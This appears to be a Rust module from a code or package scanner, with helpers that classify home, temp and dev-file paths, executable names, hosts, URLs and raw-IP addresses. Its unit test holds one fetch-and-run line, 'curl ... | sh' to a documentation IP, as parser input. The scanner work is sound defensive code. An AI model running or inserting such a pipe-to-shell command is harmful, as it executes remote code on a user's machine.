//! Reading folded path and URL text: is it in the home directory, is it a URL.

/// Normalises a path for matching: lowercase, `/` separators, home forms as `~`.
pub fn normalize(path: &str) -> String {
    let p = path.replace('\\', "/").to_ascii_lowercase();
    for home in [
        "$home",
        "${home}",
        "%userprofile%",
        "%homepath%",
        "%homedrive%%homepath%",
    ] {
        if let Some(rest) = p.strip_prefix(home) {
            return format!("~{rest}");
        }
    }
    p
}

/// True for paths in a user's home directory (including per-user app data).
pub fn is_home(path: &str) -> bool {
    let p = normalize(path);
    p.starts_with('~')
        || p.starts_with("%appdata%")
        || p.starts_with("%localappdata%")
        || p.starts_with("/home/")
        || p.starts_with("/root/")
        || p.starts_with("/users/")
        || p.starts_with("c:/users/")
}

/// Temporary folders (`/tmp`, `%TEMP%`, `tempfile.gettempdir()` folds to `/tmp`).
pub fn is_temp(path: &str) -> bool {
    let p = normalize(path);
    p.starts_with("/tmp/")
        || p.starts_with("/var/tmp/")
        || p.starts_with("%temp%")
        || p.starts_with("%tmp%")
        || p.contains("/appdata/local/temp/")
}

/// Caches and per-user data folders that libraries legitimately fill when called.
pub fn is_cache(path: &str) -> bool {
    let p = normalize(path);
    p.starts_with("~/.cache/")
        || p.starts_with("~/.local/share/")
        || p.contains("/appdata/local/temp/")
}

/// Development files that installing or importing never runs: tests, CI and helper
/// scripts, docs, examples, benchmarks, and shell scripts (nothing in a package manager
/// runs a `.sh` file unless an install hook names it, which makes it install-phase).
pub fn is_dev_file(path: &str) -> bool {
    let p = path.to_ascii_lowercase();
    let name = p.rsplit(['/', '!']).next().unwrap_or(&p);
    const DIRS: &[&str] = &[
        "tests",
        "test",
        "testing",
        "unittests",
        "__tests__",
        "spec",
        "docs",
        "doc",
        "examples",
        "example",
        "benchmarks",
        "bench",
        "scripts",
        "tools",
        "ci",
        ".github",
        ".evergreen",
        ".circleci",
        "build-aux",
        "demo",
        "demos",
        "samples",
    ];
    p.split(['/', '!'])
        .rev()
        .skip(1)
        .any(|dir| DIRS.contains(&dir))
        || name.starts_with("test_")
        || name.ends_with("_test.py")
        || name == "conftest.py"
        || name.ends_with(".test.js")
        || name.ends_with(".spec.js")
        || name.ends_with(".sh")
}

/// A bare host name or IPv4 address, optionally with a port and path (`a.example.com`,
/// `192.0.2.1:8080/x`): what network tools are handed without a scheme.
pub fn is_host(text: &str) -> bool {
    // `{?}.{?}.oob.example.com`: computed labels in front of a fixed domain (a DNS beacon).
    let mut text = text;
    while let Some(rest) = text.strip_prefix("{?}.") {
        text = rest;
    }
    let host = text.split('/').next().unwrap_or(text);
    let host = host.split(':').next().unwrap_or(host);
    let labels: Vec<&str> = host.split('.').collect();
    labels.len() >= 2
        && labels
            .iter()
            .all(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
        && labels
            .last()
            .is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()) || labels.len() == 4)
        && !text.starts_with('-')
}

/// Files that run when opened or started: Windows executables and scripts, shell and
/// Python scripts. Fetching or planting one is preparing to run it.
pub fn is_executable_name(path: &str) -> bool {
    let p = path.to_ascii_lowercase();
    let p = without_query(&p);
    [
        ".exe", ".bat", ".cmd", ".vbs", ".ps1", ".scr", ".msi", ".dll", ".jar", ".sh", ".py",
        ".pyw", ".js", ".hta", ".lnk",
    ]
    .iter()
    .any(|e| p.ends_with(e))
}

/// The first http(s)/ftp URL in a text.
pub fn find_url(text: &str) -> Option<String> {
    let start = ["http://", "https://", "ftp://"]
        .iter()
        .filter_map(|s| text.find(s))
        .min()?;
    let url: String = text[start..]
        .chars()
        .take_while(|c| {
            !c.is_whitespace() && !matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | '|' | ';')
        })
        .collect();
    (url.len() > 8).then_some(url)
}

/// The host part of a URL.
pub fn host(url: &str) -> String {
    let url = url.replace(HOLE, "\u{1}");
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(&url);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = authority.rsplit('@').next().unwrap_or(authority);
    // `[2001:db8::1]:8080`: an IPv6 literal is bracketed, its colons are its own.
    if let Some(v6) = host.strip_prefix('[').and_then(|h| h.split(']').next()) {
        return v6.replace('\u{1}', HOLE);
    }
    host.split(':')
        .next()
        .unwrap_or(host)
        .replace('\u{1}', HOLE)
}

/// How folded text marks a part it could not compute.
pub const HOLE: &str = "{?}";

/// A URL without its query string and fragment (the `?` of a `{?}` hole is not one).
pub fn without_query(url: &str) -> String {
    let url = url.replace(HOLE, "\u{1}");
    url.split(['?', '#'])
        .next()
        .unwrap_or(&url)
        .replace('\u{1}', HOLE)
}

/// True when a URL's host is a bare IPv4 address or a bracketed IPv6 literal.
pub fn is_raw_ip(url: &str) -> bool {
    let h = host(url);
    let v4 = h.split('.').count() == 4
        && h.split('.')
            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()));
    let v6 = h.contains(':')
        && h.bytes()
            .all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.');
    v4 || v6
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn home_and_urls() {
        assert!(is_home("~/.bashrc"));
        assert!(is_home("%APPDATA%\\Microsoft\\x.exe"));
        assert!(is_home("$HOME/.config/x"));
        assert!(!is_home("/tmp/x"));
        assert_eq!(
            find_url("curl -s http://192.0.2.7:8080/p.sh|sh").as_deref(),
            Some("http://192.0.2.7:8080/p.sh")
        );
        assert!(is_raw_ip("http://192.0.2.7:8080/p"));
        assert!(is_raw_ip("https://root:pw@[2001:db8::1]:42/x"));
        assert_eq!(host("https://[2001:db8::1]:42/x"), "2001:db8::1");
        assert_eq!(host("https://root@198.51.100.4:42"), "198.51.100.4");
        assert!(!is_raw_ip("https://example.com/p"));
    }
}
